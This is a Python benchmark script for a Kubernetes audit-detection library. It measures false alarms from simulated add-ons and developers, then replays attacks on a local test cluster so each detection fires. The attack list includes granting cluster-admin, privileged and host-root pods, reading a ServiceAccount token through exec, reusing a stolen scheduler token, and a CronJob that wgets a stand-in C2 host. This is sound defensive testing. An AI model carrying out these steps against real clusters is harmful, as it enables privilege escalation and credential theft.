"""Benchmark: how noisy the detection library is on a healthy cluster, and whether it still
catches attacks there.

    python bench/noise.py [--seconds 75] [--report-only] [--attacks] [--keep DIR]

Needs $AUDITWATCH_KUBE_APISERVER (with kube-controller-manager and kube-scheduler beside it:
docs/operator.md, "Real control-plane tests"), etcd and kubectl on PATH.

What it does, on the real control plane of tests/realcluster.py (etcd, kube-apiserver with its
audit webhook to `auditwatch run` over HTTPS, kube-controller-manager, kube-scheduler; the
operator installed from manifests/ and running as its own ServiceAccount):
1. installs the add-ons of bench/noise-addons.yaml (namespaces, ServiceAccounts and the RBAC
   their charts grant) and the application teams' namespaces, then applies examples/detections
   and waits until every detection is live: the installs are not counted;
2. steady state, for `--seconds`: the add-ons make the calls their controllers make, each with
   its own ServiceAccount's TokenRequest token (`ADDONS`: list + watch at start, leader-election
   renewals, Secrets read and written), and two developers deploy and operate their apps with
   kubectl (`PEOPLE`);
3. reports per detection: matches in the steady state (the operator's status), firings (its
   Firing Events), final state, and by whom (the stored events of the window that the
   detection's rule matches, by user). Exit status 1 if any medium-or-higher detection fired
   (`--report-only`: always 0 unless the benchmark itself failed);
4. with `--attacks`, afterwards: the attacks of `attacks()`, done for real against the apiserver
   by people and ServiceAccounts with the rights an attacker would have gained, and a check that
   every detection of the library matched at least once and is Firing (exit 1 if not). Exec and
   attach go into a pod on a node whose kubelet is tests/fake_kubelet.py, so the apiserver opens
   the session (101) as it does on a cluster with nodes.
"""

from __future__ import annotations

import argparse
import base64
import http.client
import json
import random
import socket
import ssl
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT), str(ROOT / "operator")]

from cryptography import x509  # noqa: E402
from cryptography.hazmat.primitives import hashes, serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric import ec  # noqa: E402
from cryptography.x509.oid import NameOID  # noqa: E402
from tests.fake_kubelet import FakeKubelet  # noqa: E402
from tests.realcluster import (  # noqa: E402
    CONTROLLER_TOKENS,
    OPERATOR_NAMESPACE,
    Cluster,
    User,
    missing_controllers,
    start,
)

from auditwatch.config.build import build_alert  # noqa: E402
from auditwatch.store import query  # noqa: E402

ADDONS_MANIFEST = ROOT / "bench" / "noise-addons.yaml"
DETECTIONS = ROOT / "examples" / "detections"
STREAM = "kube-audit"
NOTABLE = ("medium", "high", "critical")
"""Severities that must stay quiet on a healthy cluster."""
PEOPLE = (
    User("alice@example.com", "alice-token", ("developers",)),
    User("bob@example.com", "bob-token", ("developers",)),
)
ATTACKER = User("mallory@example.com", "mallory-token", ("contractors",))
LIVE_STATES = ("Listening", "Firing", "Resolved")


# -- the add-ons' API calls ------------------------------------------------------------------


class Api:
    """Raw HTTPS calls to the apiserver with one bearer token, as a controller's client makes
    them (one keep-alive connection; watches on connections of their own)."""

    def __init__(self, cluster: Cluster, token: str, forwarded_for: str | None = None) -> None:
        host, port = cluster.server.removeprefix("https://").rsplit(":", 1)
        self.address = (host, int(port))
        self.context = ssl.create_default_context(cadata=cluster.ca.pem.decode())
        self.headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
        if forwarded_for is not None:  # the apiserver records it in sourceIPs, first
            self.headers["X-Forwarded-For"] = forwarded_for
        self.connection = self._connect()
        self.lock = threading.Lock()

    def _connect(self, timeout: float = 30) -> http.client.HTTPSConnection:
        return http.client.HTTPSConnection(*self.address, context=self.context, timeout=timeout)

    def call(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
        data = None if body is None else json.dumps(body)
        with self.lock:
            for attempt in (1, 2):
                try:
                    self.connection.request(method, path, body=data, headers=self.headers)
                    answer = self.connection.getresponse()
                    payload = answer.read()
                    break
                except (OSError, http.client.HTTPException):
                    self.connection.close()
                    self.connection = self._connect()
                    if attempt == 2:
                        raise
        try:
            return answer.status, json.loads(payload)
        except ValueError:
            return answer.status, None

    def watch(self, path: str, stop: threading.Event, sockets: list[socket.socket]) -> None:
        """Watch `path` until `stop` (a reflector: list first, then watch from its version)."""
        while not stop.is_set():
            status, listed = self.call("GET", path)
            version = (listed or {}).get("metadata", {}).get("resourceVersion", "")
            if status != 200:
                return
            joiner = "&" if "?" in path else "?"
            connection = self._connect(timeout=None)  # type: ignore[arg-type]
            try:
                connection.request(
                    "GET",
                    f"{path}{joiner}watch=1&resourceVersion={version}&timeoutSeconds=300",
                    headers=self.headers,
                )
                answer = connection.getresponse()
                if connection.sock is not None:
                    sockets.append(connection.sock)  # `Simulation.finish` shuts it down
                while not stop.is_set() and answer.readline():
                    pass
            except (OSError, http.client.HTTPException, ValueError):
                pass
            finally:
                connection.close()


@dataclass
class Periodic:
    """A call an add-on repeats: `action(api)` every `every` seconds (first after `offset`)."""

    every: float
    action: Callable[[Api], object]
    offset: float = 0.0


@dataclass
class Addon:
    """One component of an add-on: its ServiceAccount, the collections it lists and watches
    from the start, and what it does periodically."""

    namespace: str
    service_account: str
    watches: tuple[str, ...] = ()
    periodic: tuple[Periodic, ...] = ()


def lease_renewal(namespace: str, name: str) -> Callable[[Api], object]:
    """client-go leader election: get the Lease, then create it or update its renewTime."""

    def renew(api: Api) -> object:
        path = f"/apis/coordination.k8s.io/v1/namespaces/{namespace}/leases"
        status, lease = api.call("GET", f"{path}/{name}")
        now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        if status == 404:
            body = {
                "apiVersion": "coordination.k8s.io/v1",
                "kind": "Lease",
                "metadata": {"name": name, "namespace": namespace},
                "spec": {"holderIdentity": name + "-0", "leaseDurationSeconds": 30},
            }
            return api.call("POST", path, body)
        lease["spec"]["renewTime"] = now
        return api.call("PUT", f"{path}/{name}", lease)

    return renew


def get(path: str) -> Callable[[Api], object]:
    return lambda api: api.call("GET", path)


def write_secret(
    namespace: str, name: str, kind: str = "Opaque", read_first: bool = True
) -> Callable[[Api], object]:
    """Create the Secret, or (having read it, as controllers do) update its data."""

    def write(api: Api) -> object:
        path = f"/api/v1/namespaces/{namespace}/secrets"
        status, secret = api.call("GET", f"{path}/{name}") if read_first else (404, None)
        data = {"value": f"{random.getrandbits(64):016x}"}
        if status == 404:
            body = {"metadata": {"name": name}, "type": kind, "stringData": data}
            return api.call("POST", path, body)
        secret["stringData"] = data
        return api.call("PUT", f"{path}/{name}", secret)

    return write


def _cluster_wide(*resources: str) -> tuple[str, ...]:
    return tuple(
        f"/api/v1/{r}" if "/" not in r else f"/apis/{r.rsplit('/', 1)[0]}/{r.rsplit('/', 1)[1]}"
        for r in resources
    )


ADDONS = (
    # ingress-nginx: informers on Secrets (TLS), ConfigMaps, Services, EndpointSlices, Ingresses,
    # its ConfigMap read at start; leader election every 7.5 s (--election-ttl 30s / 4).
    Addon(
        "ingress-nginx",
        "ingress-nginx",
        watches=_cluster_wide(
            "secrets",
            "configmaps",
            "services",
            "pods",
            "discovery.k8s.io/v1beta1/endpointslices",
            "networking.k8s.io/v1/ingresses",
            "networking.k8s.io/v1/ingressclasses",
        ),
        periodic=(
            Periodic(
                60, get("/api/v1/namespaces/ingress-nginx/configmaps/ingress-nginx-controller")
            ),
            Periodic(7.5, lease_renewal("ingress-nginx", "ingress-nginx-leader")),
        ),
    ),
    # cert-manager controller: Secrets cluster-wide (certificates' key pairs), leader election in
    # kube-system (retry period 15 s), and issuing: read a certificate's Secret, then write it.
    Addon(
        "cert-manager",
        "cert-manager",
        watches=_cluster_wide("secrets"),
        periodic=(
            Periodic(15, lease_renewal("kube-system", "cert-manager-controller")),
            Periodic(20, write_secret("shop", "shop-tls", "kubernetes.io/tls"), offset=10),
            Periodic(25, write_secret("payments", "payments-tls", "kubernetes.io/tls"), offset=12),
            Periodic(40, write_secret("cert-manager", "letsencrypt-account-key"), offset=3),
        ),
    ),
    Addon(
        "cert-manager",
        "cert-manager-cainjector",
        watches=_cluster_wide("secrets"),
        periodic=(
            Periodic(15, lease_renewal("kube-system", "cert-manager-cainjector-leader-election")),
        ),
    ),
    Addon(
        "cert-manager",
        "cert-manager-webhook",
        watches=(
            "/api/v1/namespaces/cert-manager/secrets?fieldSelector=metadata.name%3Dcert-manager-webhook-ca",
        ),
        periodic=(
            Periodic(30, get("/api/v1/namespaces/cert-manager/secrets/cert-manager-webhook-ca")),
        ),
    ),
    # Argo CD's application controller caches every resource type of the cluster (list +
    # watch), and argocd-server reads its settings Secret and ConfigMap.
    Addon(
        "argocd",
        "argocd-application-controller",
        watches=_cluster_wide(
            "secrets",
            "configmaps",
            "services",
            "pods",
            "serviceaccounts",
            "namespaces",
            "endpoints",
            "persistentvolumeclaims",
            "apps/v1/deployments",
            "apps/v1/replicasets",
            "apps/v1/statefulsets",
            "apps/v1/daemonsets",
            "batch/v1/jobs",
            "networking.k8s.io/v1/ingresses",
            "rbac.authorization.k8s.io/v1/roles",
            "rbac.authorization.k8s.io/v1/rolebindings",
            "rbac.authorization.k8s.io/v1/clusterroles",
            "rbac.authorization.k8s.io/v1/clusterrolebindings",
        ),
        periodic=(Periodic(20, get("/api/v1/namespaces/argocd/secrets/argocd-secret")),),
    ),
    Addon(
        "argocd",
        "argocd-server",
        watches=(
            "/api/v1/namespaces/argocd/secrets",
            "/api/v1/namespaces/argocd/configmaps",
        ),
        periodic=(
            Periodic(30, get("/api/v1/namespaces/argocd/secrets/argocd-secret"), offset=7),
            Periodic(30, get("/api/v1/namespaces/argocd/configmaps/argocd-cm"), offset=8),
        ),
    ),
    # kube-prometheus-stack: the operator watches namespaces and its Secrets / ConfigMaps and
    # rewrites Prometheus's configuration Secret on every reconcile; Prometheus discovers pods,
    # services and endpoints; kube-state-metrics lists and watches everything it exports.
    Addon(
        "monitoring",
        "kube-prometheus-stack-operator",
        watches=(
            "/api/v1/namespaces",
            "/api/v1/namespaces/monitoring/secrets",
            "/api/v1/namespaces/monitoring/configmaps",
        ),
        periodic=(
            Periodic(
                30,
                write_secret("monitoring", "prometheus-kube-prometheus-stack-prometheus"),
                offset=4,
            ),
        ),
    ),
    Addon(
        "monitoring",
        "kube-prometheus-stack-prometheus",
        watches=_cluster_wide("pods", "services", "endpoints"),
    ),
    Addon(
        "monitoring",
        "kube-state-metrics",
        watches=_cluster_wide(
            "configmaps",
            "secrets",
            "pods",
            "services",
            "namespaces",
            "endpoints",
            "resourcequotas",
            "persistentvolumeclaims",
            "apps/v1/deployments",
            "apps/v1/replicasets",
            "apps/v1/statefulsets",
            "apps/v1/daemonsets",
            "batch/v1/jobs",
            "networking.k8s.io/v1/ingresses",
        ),
    ),
    # external-secrets: Secrets cluster-wide, leader election, and each ExternalSecret's refresh
    # (read the target Secret, write it; refreshInterval compressed to 15-20 s).
    Addon(
        "external-secrets",
        "external-secrets",
        watches=_cluster_wide("secrets", "configmaps"),
        periodic=(
            Periodic(10, lease_renewal("external-secrets", "external-secrets-controller")),
            Periodic(15, write_secret("shop", "shop-database"), offset=2),
            Periodic(20, write_secret("payments", "payments-stripe"), offset=6),
        ),
    ),
)


# -- people ------------------------------------------------------------------------------------


def people_steps(namespace: str, app: str) -> list[list[str]]:
    """What a developer does in a day, compressed: deploy, look, scale, read logs, roll out."""
    return [
        ["create", "deployment", app, "--image=nginx:1.25", "--replicas=2"],
        ["get", "pods"],
        ["expose", "deployment", app, "--port=80"],
        ["get", "deployment", app, "-o", "wide"],
        ["scale", "deployment", app, "--replicas=3"],
        ["logs", f"deployment/{app}", "--tail=20"],
        ["describe", "deployment", app],
        ["set", "image", f"deployment/{app}", "nginx=nginx:1.26"],
        ["rollout", "status", f"deployment/{app}", "--timeout=2s"],
        ["create", "configmap", f"{app}-settings", "--from-literal=LOG_LEVEL=info"],
        ["get", "events"],
        ["scale", "deployment", app, "--replicas=1"],
        ["get", "all"],
        ["delete", "configmap", f"{app}-settings"],
    ]


# -- the run -----------------------------------------------------------------------------------


@dataclass
class Simulation:
    """The add-ons and people running in threads until `stop`."""

    cluster: Cluster
    stop: threading.Event = field(default_factory=threading.Event)
    threads: list[threading.Thread] = field(default_factory=list)
    sockets: list[socket.socket] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    apis: list[Api] = field(init=False)
    """Each add-on's client. Its token is minted here, before the steady state: a TokenRequest
    by the admin is the harness's set-up (k8s-serviceaccount-token-requested would report it),
    not the add-ons' traffic; a pod gets its token from its kubelet."""

    def __post_init__(self) -> None:
        self.apis = [
            Api(self.cluster, self.cluster.token(addon.namespace, addon.service_account))
            for addon in ADDONS
        ]

    def _thread(self, name: str, target: Callable[[], None]) -> None:
        def guarded() -> None:
            try:
                target()
            except Exception as error:
                if not self.stop.is_set():
                    self.errors.append(f"{name}: {error!r}")

        thread = threading.Thread(target=guarded, name=name, daemon=True)
        thread.start()
        self.threads.append(thread)

    def start(self) -> None:
        for addon, api in zip(ADDONS, self.apis, strict=True):
            for path in addon.watches:
                self._thread(
                    f"{addon.service_account} {path}",
                    lambda a=api, p=path: a.watch(p, self.stop, self.sockets),
                )
            for task in addon.periodic:
                self._thread(
                    f"{addon.service_account} periodic",
                    lambda a=api, t=task: self._repeat(a, t),
                )
        for person, (namespace, app) in zip(
            PEOPLE, (("shop", "web"), ("payments", "api")), strict=True
        ):
            self._thread(person.name, lambda p=person, n=namespace, a=app: self._work(p, n, a))

    def _repeat(self, api: Api, task: Periodic) -> None:
        if self.stop.wait(task.offset):
            return
        while True:
            task.action(api)
            if self.stop.wait(task.every):
                return

    def _work(self, person: User, namespace: str, app: str) -> None:
        token = self.cluster.user_tokens[person.name]
        for step in people_steps(namespace, app):
            self.cluster.kubectl(*step, "-n", namespace, token=token, check=False)
            if self.stop.wait(4):
                return
        while not self.stop.wait(5):
            self.cluster.kubectl("get", "pods", "-n", namespace, token=token, check=False)

    def finish(self) -> None:
        """Stop every thread: watches end when their socket is shut down (again, for a watch
        that opened while stopping)."""
        self.stop.set()
        deadline = time.monotonic() + 30
        for thread in self.threads:
            while thread.is_alive() and time.monotonic() < deadline:
                for sock in list(self.sockets):
                    with suppress(OSError):
                        sock.shutdown(socket.SHUT_RDWR)
                thread.join(timeout=0.5)


@dataclass
class AlertReport:
    name: str
    severity: str
    matches: int
    firings: int
    state: str
    principals: Counter[str]

    @property
    def fired(self) -> bool:
        return self.firings > 0 or (self.matches > 0 and self.state == "Firing")

    @property
    def notable(self) -> bool:
        """A medium-or-higher detection that fired: what the benign steady state must avoid."""
        return self.fired and self.severity in NOTABLE


@dataclass
class Report:
    since: datetime
    until: datetime
    events: int
    alerts: list[AlertReport]
    errors: list[str]

    def table(self) -> str:
        """One row per detection, busiest first; `top principals` come from the stored events
        the rule text matches (a count there that differs from `matches` means the operator
        excepted some of them)."""
        rows = [("alert", "severity", "matches", "firings", "state", "top principals")]
        for a in sorted(self.alerts, key=lambda a: (-a.matches, a.name)):
            top = ", ".join(f"{user} ({n})" for user, n in a.principals.most_common(3))
            replayed = sum(a.principals.values())
            if replayed != a.matches:
                top = f"[rule alone: {replayed}] {top}"
            rows.append((a.name, a.severity, str(a.matches), str(a.firings), a.state, top or "-"))
        widths = [max(len(row[i]) for row in rows) for i in range(5)]
        lines = [
            "  ".join(c.ljust(w) for c, w in zip(row, widths, strict=False)) + "  " + row[5]
            for row in rows
        ]
        return "\n".join(line.rstrip() for line in lines)

    @property
    def notable(self) -> list[AlertReport]:
        return [a for a in self.alerts if a.notable]

    def alert(self, name: str) -> AlertReport:
        return next(a for a in self.alerts if a.name == name)


def library_alerts(cluster: Cluster) -> dict[str, dict[str, Any]]:
    """The detections of examples/detections as installed, by name."""
    items = cluster.get("auditalerts", "-n", OPERATOR_NAMESPACE)["items"]
    names = {p.stem for p in DETECTIONS.glob("k8s-*.yaml")}
    return {i["metadata"]["name"]: i for i in items if i["metadata"]["name"] in names}


def install(cluster: Cluster) -> None:
    """The add-ons and teams, then the detection library (live before the steady state)."""
    cluster.kubectl("apply", "-f", str(ADDONS_MANIFEST))
    time.sleep(3)  # the install's audit events reach auditwatch before the detections exist
    cluster.kubectl("apply", "-k", str(DETECTIONS))

    def all_live() -> bool:
        alerts = library_alerts(cluster)
        return len(alerts) == len(list(DETECTIONS.glob("k8s-*.yaml"))) and all(
            a.get("status", {}).get("state") in LIVE_STATES for a in alerts.values()
        )

    cluster.wait_for("every detection live", all_live, timeout=90)


def firing_events(cluster: Cluster, since: datetime) -> Counter[str]:
    """Firing Events about the library's alerts since `since`, by alert."""
    events = cluster.get("events", "-n", OPERATOR_NAMESPACE, "--field-selector", "reason=Firing")
    counts: Counter[str] = Counter()
    for event in events["items"]:
        stamp = event.get("lastTimestamp") or event.get("eventTime") or ""
        if stamp and datetime.fromisoformat(stamp.replace("Z", "+00:00")) >= since:
            counts[event["involvedObject"]["name"]] += int(event.get("count") or 1)
    return counts


def report(
    cluster: Cluster,
    before: dict[str, dict[str, Any]],
    since: datetime,
    until: datetime,
    errors: list[str],
) -> Report:
    """Per detection, what happened between `since` and `until` (see the module docstring)."""
    after = library_alerts(cluster)
    firings = firing_events(cluster, since)
    data = cluster.root / "data"
    stored = sum(1 for _ in query(data, STREAM, since=since, until=until))
    alerts = []
    for name, resource in sorted(after.items()):
        spec = build_alert(resource, lambda *_: None)
        principals = Counter(
            str(e.get("user", {}).get("username"))
            for e in query(data, STREAM, condition=spec.rule.condition, since=since, until=until)
        )
        status = resource.get("status", {})
        was = before.get(name, {}).get("status", {})
        alerts.append(
            AlertReport(
                name=name,
                severity=spec.severity or "-",
                matches=int(status.get("matches", 0)) - int(was.get("matches", 0)),
                firings=firings[name],
                state=str(status.get("state", "?")),
                principals=principals,
            )
        )
    return Report(since, until, stored, alerts, errors)


def settle() -> None:
    """Wait for the apiserver's audit batches (1 s) and the operator's status writes."""
    time.sleep(6)


def run_benign(cluster: Cluster, seconds: float) -> Report:
    """Install, then `seconds` of steady state; the report of what the library did."""
    install(cluster)
    simulation = Simulation(cluster)
    settle()
    before = library_alerts(cluster)
    since = datetime.now(UTC)
    simulation.start()
    time.sleep(seconds)
    simulation.finish()
    until = datetime.now(UTC)
    settle()
    return report(cluster, before, since, until, simulation.errors)


# -- attacks -----------------------------------------------------------------------------------

POD_TEMPLATE = """
apiVersion: v1
kind: Pod
metadata: {name: NAME, namespace: shop}
spec:
  SPEC_FIELD
  containers:
    - name: c
      image: busybox
      command: [sleep, "3600"]
      SECURITY
  VOLUMES
"""


def pod(name: str, spec_field: str = "", security: str = "", volumes: str = "") -> str:
    return (
        POD_TEMPLATE.replace("NAME", name)
        .replace("SPEC_FIELD", spec_field)
        .replace("SECURITY", security)
        .replace("VOLUMES", volumes)
    )


EXEC_CREATE_ONLY_ROLE = """
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: exec-create, namespace: shop}
rules:
  - {apiGroups: [""], resources: [pods], verbs: [get]}
  - {apiGroups: [""], resources: [pods/exec], verbs: [create]}
"""


WEBHOOK = """
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: audit-helper}
webhooks:
  - name: audit-helper.example.com
    clientConfig: {url: "https://hooks.example.invalid/validate"}
    rules:
      - operations: [CREATE]
        apiGroups: [example.invalid]
        apiVersions: [v1]
        resources: [widgets]
    sideEffects: None
    admissionReviewVersions: [v1]
    failurePolicy: Ignore
"""
"""A webhook on a resource that does not exist: registering it changes nothing else here."""

CRONJOB = """
apiVersion: batch/v1beta1
kind: CronJob
metadata: {name: beacon, namespace: shop}
spec:
  schedule: "0 0 1 1 *"
  suspend: true
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: beacon, image: busybox, command: [wget, "http://c2.example.invalid"]}]
"""
"""batch/v1beta1: the API version of the 1.20 apiserver; suspended, so it never runs."""

DAEMONSET = """
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-miner, namespace: shop}
spec:
  selector: {matchLabels: {app: node-miner}}
  template:
    metadata: {labels: {app: node-miner}}
    spec:
      nodeSelector: {auditwatch.example/none: "true"}
      containers: [{name: miner, image: busybox, command: [sleep, "3600"]}]
"""
"""No node matches its selector: the DaemonSet is created, no pod is."""


ROOT_DEPLOYMENT = """
apiVersion: apps/v1
kind: Deployment
metadata: {name: toolbox, namespace: shop}
spec:
  replicas: 1
  selector: {matchLabels: {app: toolbox}}
  template:
    metadata: {labels: {app: toolbox}}
    spec:
      securityContext: {runAsUser: 0}
      containers: [{name: toolbox, image: busybox, command: [sleep, "3600"]}]
"""
"""Its ReplicaSet and pod, which the controllers create from the template, are not reported."""

PUBLIC_ADDRESS = "203.0.113.50"
"""Where the stolen scheduler token is used from, as a proxy in front of the apiserver would
forward it (X-Forwarded-For): the apiserver itself only ever sees 127.0.0.1 here."""

TOKEN_SECRET = """
apiVersion: v1
kind: Secret
metadata:
  name: default-forever
  namespace: payments
  annotations: {kubernetes.io/service-account.name: default}
type: kubernetes.io/service-account-token
"""
"""The token controller fills it with a token that never expires."""


def client_certificate_request(user: str) -> str:
    """A CertificateSigningRequest for a client certificate of the apiserver, as `user`."""
    key = ec.generate_private_key(ec.SECP256R1())
    request = (
        x509.CertificateSigningRequestBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, user)]))
        .sign(key, hashes.SHA256())
    )
    pem = request.public_bytes(serialization.Encoding.PEM)
    return json.dumps(
        {
            "apiVersion": "certificates.k8s.io/v1",
            "kind": "CertificateSigningRequest",
            "metadata": {"name": f"{user}-client"},
            "spec": {
                "request": base64.b64encode(pem).decode(),
                "signerName": "kubernetes.io/kube-apiserver-client",
                "usages": ["client auth"],
            },
        }
    )


def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
    """Each attack the library is meant to catch, as a real call against the apiserver: who
    does it (the attacker `mallory`, a compromised ServiceAccount, anonymous, or the admin for
    changes only an admin can make), and what."""
    admin = cluster.kubectl

    def mallory(*args: str, input: str | None = None) -> object:
        return cluster.kubectl(*args, input=input, token=ATTACKER.token, check=False)

    def compromised_sa_reads_secrets() -> None:
        admin("create", "serviceaccount", "web-debug", "-n", "shop")
        admin("create", "role", "read-db", "-n", "shop", "--verb=get", "--resource=secrets")
        admin(
            "create",
            "rolebinding",
            "read-db",
            "-n",
            "shop",
            "--role=read-db",
            "--serviceaccount=shop:web-debug",
        )
        token = cluster.token("shop", "web-debug")
        cluster.kubectl("get", "secret", "shop-database", "-n", "shop", token=token)

    def probing_sa() -> None:
        token = cluster.token("payments", "default")
        for resource in ("secrets", "pods", "roles", "deployments", "configmaps", "nodes"):
            cluster.kubectl("get", resource, "-n", "kube-system", token=token, check=False)

    def exec_allowed_create_only() -> None:
        """A compromised ServiceAccount whose Role grants `create` on pods/exec, as older
        guides write it: kubectl >= 1.30's WebSocket `get` is refused (403), and it opens the
        session again with an SPDY `create` (101)."""
        admin("create", "serviceaccount", "web-ops", "-n", "shop")
        cluster.apply(EXEC_CREATE_ONLY_ROLE)
        admin(
            "create",
            "rolebinding",
            "exec-create",
            "-n",
            "shop",
            "--role=exec-create",
            "--serviceaccount=shop:web-ops",
        )
        token = cluster.token("shop", "web-ops")
        cluster.kubectl(
            "exec",
            "-n",
            "shop",
            NODE_POD,
            "--",
            "cat",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            token=token,
            check=False,
        )

    def port_forward() -> None:
        """kubectl port-forward gives up on a pod that is not running (no kubelet here), so
        the request it would make, as the apiserver sees it."""
        name = admin("get", "pods", "-n", "shop", "-l", "app=web", "-o", "name").stdout
        pod_name = name.split()[0].removeprefix("pod/")
        Api(cluster, ATTACKER.token).call(
            "POST", f"/api/v1/namespaces/shop/pods/{pod_name}/portforward?ports=80"
        )

    def anonymous_access() -> None:
        admin(
            "create",
            "clusterrolebinding",
            "anonymous-view",
            "--clusterrole=view",
            "--user=system:anonymous",
        )
        context = ssl.create_default_context(cadata=cluster.ca.pem.decode())
        host, port = cluster.server.removeprefix("https://").rsplit(":", 1)
        connection = http.client.HTTPSConnection(host, int(port), context=context, timeout=10)
        time.sleep(1)
        connection.request("GET", "/api/v1/namespaces/shop/pods")
        connection.getresponse().read()

    def stolen_scheduler_token_from_outside() -> None:
        """The kube-scheduler's credential, used from a public address: it may list every
        pod of the cluster."""
        token = CONTROLLER_TOKENS["kube-scheduler"][0]
        Api(cluster, token, forwarded_for=PUBLIC_ADDRESS).call("GET", "/api/v1/pods")

    def copy_out() -> None:
        """kubectl cp from the pod: an exec of `tar cf - /etc/hostname`."""
        target = cluster.root / "copied-hostname"
        mallory("cp", f"shop/{NODE_POD}:/etc/hostname", str(target))

    return [
        (
            "mallory gets cluster-admin",
            lambda: admin(
                "create",
                "clusterrolebinding",
                "mallory-admin",
                "--clusterrole=cluster-admin",
                f"--user={ATTACKER.name}",
            ),
        ),
        ("a compromised ServiceAccount reads a Secret", compromised_sa_reads_secrets),
        ("a ServiceAccount probes what it may do", probing_sa),
        ("anonymous access granted and used", anonymous_access),
        ("exec into a pod (WebSocket refused, then SPDY)", exec_allowed_create_only),
        ("attach to a pod", lambda: mallory("attach", "-n", "shop", NODE_POD)),
        ("kubectl cp out of a pod", copy_out),
        ("port-forward to a pod", port_forward),
        (
            "privileged pod",
            lambda: mallory(
                "apply",
                "-f",
                "-",
                input=pod("priv", security="securityContext: {privileged: true}"),
            ),
        ),
        (
            "hostNetwork pod",
            lambda: mallory(
                "apply", "-f", "-", input=pod("hostnet", spec_field="hostNetwork: true")
            ),
        ),
        (
            "hostPID pod",
            lambda: mallory("apply", "-f", "-", input=pod("hostpid", spec_field="hostPID: true")),
        ),
        (
            "hostIPC pod",
            lambda: mallory("apply", "-f", "-", input=pod("hostipc", spec_field="hostIPC: true")),
        ),
        (
            "hostPath / pod",
            lambda: mallory(
                "apply",
                "-f",
                "-",
                input=pod("hostroot", volumes="volumes: [{name: root, hostPath: {path: /}}]"),
            ),
        ),
        (
            "pod in kube-system",
            lambda: mallory("run", "backdoor", "-n", "kube-system", "--image=busybox"),
        ),
        (
            "ServiceAccount in kube-system",
            lambda: mallory("create", "serviceaccount", "backdoor", "-n", "kube-system"),
        ),
        (
            "wildcard Role",
            lambda: mallory(
                "create", "role", "everything", "-n", "shop", "--verb=*", "--resource=*"
            ),
        ),
        (
            "Role that may exec",
            lambda: mallory(
                "create", "role", "exec", "-n", "shop", "--verb=create", "--resource=pods/exec"
            ),
        ),
        (
            "ClusterRole granting nodes/proxy",
            lambda: mallory(
                "create", "clusterrole", "node-proxy", "--verb=get", "--resource=nodes/proxy"
            ),
        ),
        (
            "admission webhook registered, then removed",
            lambda: (
                mallory("apply", "-f", "-", input=WEBHOOK),
                mallory("delete", "validatingwebhookconfiguration", "audit-helper"),
            ),
        ),
        (
            "client certificate requested",
            lambda: mallory("apply", "-f", "-", input=client_certificate_request("mallory")),
        ),
        ("Secrets of every namespace listed", lambda: mallory("get", "secrets", "-A")),
        (
            "Secret names guessed",
            lambda: mallory("get", "secret", "stripe-live-key", "-n", "payments"),
        ),
        (
            "long-lived token Secret created",
            lambda: mallory("apply", "-f", "-", input=TOKEN_SECRET),
        ),
        (
            "token minted for a ServiceAccount",
            lambda: mallory("create", "token", "default", "-n", "payments"),
        ),
        ("CronJob created", lambda: mallory("apply", "-f", "-", input=CRONJOB)),
        ("DaemonSet created", lambda: mallory("apply", "-f", "-", input=DAEMONSET)),
        ("Deployment running as root", lambda: mallory("apply", "-f", "-", input=ROOT_DEPLOYMENT)),
        ("scheduler token used from a public address", stolen_scheduler_token_from_outside),
        (
            "pod adding SYS_ADMIN",
            lambda: mallory(
                "apply",
                "-f",
                "-",
                input=pod(
                    "capadmin", security="securityContext: {capabilities: {add: [SYS_ADMIN]}}"
                ),
            ),
        ),
        (
            "system ClusterRole modified",
            lambda: mallory(
                "label", "clusterrole", "system:basic-user", "pwned=yes", "--overwrite"
            ),
        ),
        (
            "NodePort Service",
            lambda: mallory(
                "create", "service", "nodeport", "exposed", "-n", "shop", "--tcp=80:80"
            ),
        ),
        (
            "credentials in a ConfigMap",
            lambda: mallory(
                "create",
                "configmap",
                "app-config",
                "-n",
                "shop",
                "--from-literal=app.properties=db.password=hunter2",
            ),
        ),
        (
            "Secret created and deleted",
            lambda: (
                mallory("create", "secret", "generic", "stash", "-n", "shop", "--from-literal=a=b"),
                mallory("delete", "secret", "stash", "-n", "shop"),
            ),
        ),
        (
            "Ingress without TLS",
            lambda: mallory("create", "ingress", "open", "-n", "shop", "--rule=shop.test/=web:80"),
        ),
        ("objects created and deleted", lambda: created_and_deleted(mallory)),
    ]


def created_and_deleted(kubectl: Callable[..., object]) -> None:
    """Short-lived objects of every kind the library's info detections track."""
    kubectl("create", "namespace", "miner")
    kubectl("create", "deployment", "miner", "-n", "miner", "--image=xmrig")
    kubectl("create", "service", "clusterip", "miner", "-n", "miner", "--tcp=80:80")
    kubectl("create", "configmap", "miner", "-n", "miner", "--from-literal=a=b")
    kubectl("create", "serviceaccount", "miner", "-n", "miner")
    kubectl("create", "role", "miner", "-n", "miner", "--verb=get", "--resource=pods")
    kubectl(
        "create",
        "rolebinding",
        "miner",
        "-n",
        "miner",
        "--role=miner",
        "--serviceaccount=miner:miner",
    )
    for kind in ("deployment", "service", "configmap", "serviceaccount", "role", "rolebinding"):
        kubectl("delete", kind, "miner", "-n", "miner")
    kubectl("delete", "namespace", "miner", "--wait=false")


@dataclass
class AttackReport:
    """Per detection: matches during the attacks, and its state after them."""

    missed: list[str]
    table: str
    new_matches: dict[str, int]
    since: datetime
    until: datetime


NODE_POD = "web-on-node-1"
"""The pod exec and attach go into: on a node whose kubelet is tests/fake_kubelet.py, so the
apiserver opens the session (101) as on a cluster with nodes."""


def run_attacks(cluster: Cluster) -> AttackReport:
